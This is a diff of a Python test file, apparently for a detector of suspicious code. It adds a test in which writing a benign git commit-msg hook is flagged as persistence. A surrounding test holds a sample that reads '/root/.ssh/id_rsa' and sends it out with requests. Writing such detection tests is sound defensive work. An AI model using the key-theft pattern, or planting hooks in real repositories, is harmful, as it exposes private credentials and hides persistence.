@@ -38,6 +38,13 @@ def test_ordinary_code_is_left_alone(check: str, title: str, files: Files) -> No
     assert checks(files) == set(), title
 
 
+def test_hook_that_only_checks_fetches_nothing() -> None:
+    hook = (
+        "import pathlib\n(pathlib.Path('.git/hooks') / 'commit-msg').write_text('#!/bin/sh\\ngrep -q feat \"$1\"\\n')\n"
+    )
+    assert checks(hook) == {"python_persists"}
+
+
 def test_secret_is_followed__from_among_more_paths_than_are_kept() -> None:
     paths = ", ".join(repr(f"a{number}.txt") for number in range(600))
     source = f"import requests\nfor p in [{paths}, '/root/.ssh/id_rsa']:\n    {SEND.format('open(p).read()')}"
